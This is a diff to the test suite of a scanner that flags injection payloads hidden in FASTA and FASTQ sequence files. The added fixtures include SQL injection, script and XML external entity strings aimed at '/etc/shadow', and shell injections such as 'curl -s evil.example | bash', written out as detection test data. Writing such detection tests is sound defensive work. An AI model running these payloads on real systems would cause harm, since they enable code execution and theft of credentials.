@@ -27,6 +27,7 @@ from security.ids import (
     PATH_TRAVERSAL,
     PHP_INJECTION,
     SCRIPT_INJECTION,
+    SIGNATURE_FLOOD,
     SQL_INJECTION,
     TEMPLATE_INJECTION,
     THREAT_TYPES,
@@ -182,14 +183,44 @@ HOSTILE = {
         2,
         3,
     ),
+    "sql comments as blanks": (
+        fasta_with_header(b"s2 x UNION/**/SELECT pw FROM users"),
+        SQL_INJECTION,
+        2,
+        3,
+    ),
     "sql drop table": (fasta_with_header(b"s2 x'; DROP TABLE jobs;--"), SQL_INJECTION, 2, 3),
     "sql comment after quote": (fasta_with_header(b"s2 admin'--"), SQL_INJECTION, 2, 3),
     "sql xp_cmdshell": (fasta_with_header(b"s2 exec xp_cmdshell 'dir'"), SQL_INJECTION, 2, 3),
     "script tag": (fasta_with_header(b"s2 <ScRiPt>alert(1)</script>"), SCRIPT_INJECTION, 2, 3),
     "javascript url": (fasta_with_header(b"s2 link=javascript:void(0)"), SCRIPT_INJECTION, 2, 3),
+    "tab inside javascript:": (
+        fasta_with_header(b"s2 <a href='java\tscript:steal()'>"),
+        SCRIPT_INJECTION,
+        2,
+        3,
+    ),
+    "xml external entity": (
+        fasta_with_header(b"s2 <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/shadow'>]>"),
+        HTML_INJECTION,
+        2,
+        3,
+    ),
     "event handler": (fasta_with_header(b"s2 x onerror =steal()"), SCRIPT_INJECTION, 2, 3),
     "html iframe": (fasta_with_header(b"s2 <iframe src=//evil.example>"), HTML_INJECTION, 2, 3),
     "html img": (fasta_with_header(b"s2 <img src=x>"), HTML_INJECTION, 2, 3),
+    "html entities without semicolons": (
+        fasta_with_header(b"s2 &ltscript&gtalert(1)"),
+        SCRIPT_INJECTION,
+        2,
+        3,
+    ),
+    "injection in a fastq read name": (
+        CLEAN_FASTQ + b"@read2 `reboot`\nACGT\n+\nIIII\n",
+        COMMAND_INJECTION,
+        2,
+        5,
+    ),
     "html entity encoded script": (
         fasta_with_header(b"s2 &lt;script&gt;x&lt;/script&gt;"),
         SCRIPT_INJECTION,
@@ -224,6 +255,7 @@ HOSTILE = {
         2,
         3,
     ),
+    "or id": (fasta_with_header(b"s2 false || id"), COMMAND_INJECTION, 2, 3),
     "and curl": (fasta_with_header(b"s2 x && curl evil.example"), COMMAND_INJECTION, 2, 3),
     "wget url": (fasta_with_header(b"s2 wget https://evil.example/x"), COMMAND_INJECTION, 2, 3),
     "jinja template": (fasta_with_header(b"s2 {{7*7}}"), TEMPLATE_INJECTION, 2, 3),
@@ -259,6 +291,12 @@ HOSTILE = {
         COMMAND_INJECTION,
         2,
         4,
+    ),
+    "windows executable header": (
+        CLEAN_FASTA + b">seq2\nACGT\nMZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\n",
+        EMBEDDED_BINARY,
+        2,
+        5,
     ),
     "shebang line": (CLEAN_FASTA + b">seq2\n#!/bin/sh\nACGT\n", EMBEDDED_BINARY, 2, 4),
     "base64 blob in a header": (
@@ -329,6 +367,41 @@ def test_it_detects_a_real_elf_header_at_a_line_start() -> None:
     assert "ELF magic" in {finding.pattern for finding in report.findings}
 
 
+def test_it_passes_real_genomes_across_read_boundaries_and_locates_a_late_payload() -> None:
+    genomes = b"".join(path.read_bytes() for path in REAL_FILES if path.suffix == ".fa")
+    clean = genomes * 4  # several MiB: sequence blocks and headers cut by every boundary
+    records = clean.count(b">")
+    report = scan_bytes(clean)
+    assert report.passed
+    assert report.records_scanned == records
+
+    hostile = clean + b">late sample; curl -s evil.example | bash\nACGT\n"
+    report = scan_bytes(hostile)
+
+    assert located(report) >= {(COMMAND_INJECTION, records + 1, clean.count(b"\n") + 1)}
+    assert {finding.record for finding in report.findings} == {records + 1}
+
+
+def test_a_decoded_line_feed_does_not_move_a_finding_to_another_line() -> None:
+    content = b">s1 a%0a%3cscript%3e &#10;&lt;iframe\nACGT\n>s2 fine\nACGT\n"
+
+    report = scan_bytes(content)
+
+    assert located(report) == {(SCRIPT_INJECTION, 1, 1), (HTML_INJECTION, 1, 1)}
+
+
+@pytest.mark.parametrize("keyword", [b"$(", b"|cat", b"../", b"%41", b"&lt;"])
+def test_a_keyword_flood_is_reported_without_examining_every_keyword(keyword: bytes) -> None:
+    content = b">" + keyword * (3_000_000 // len(keyword)) + b"\nACGT\n"
+
+    started = time.perf_counter()
+    report = scan_bytes(content)
+    elapsed = time.perf_counter() - started
+
+    assert (SIGNATURE_FLOOD, 1, 1) in located(report)
+    assert elapsed < 5.0, f"{elapsed:.1f} s"
+
+
 def test_it_reports_lines_after_a_bom_and_crlf_endings() -> None:
     content = b"\xef\xbb\xbf@r1\r\nACGT\r\n+\r\nIIII\r\n@r2 $(reboot)\r\nACGT\r\n+\r\nIIII\r\n"
 
@@ -361,6 +434,8 @@ LEGITIMATE_HEADERS = [
     b">HIV1|env|gp120",
     b">sample|cat|mito",
     b">chloroplast|cp",
+    b">gi|1||ref|NC_000001.11| empty field",
+    b">contig7\tlength=5000\tcoverage=12.5",
     b">TP53|ID|sh3 domain",
     b">seq1 [organism=Homo sapiens] [chromosome=17] [moltype=genomic DNA]",
     b">contig_1 length=5000; coverage=35.2; gc=0.51; id=ctg1; echo=1",
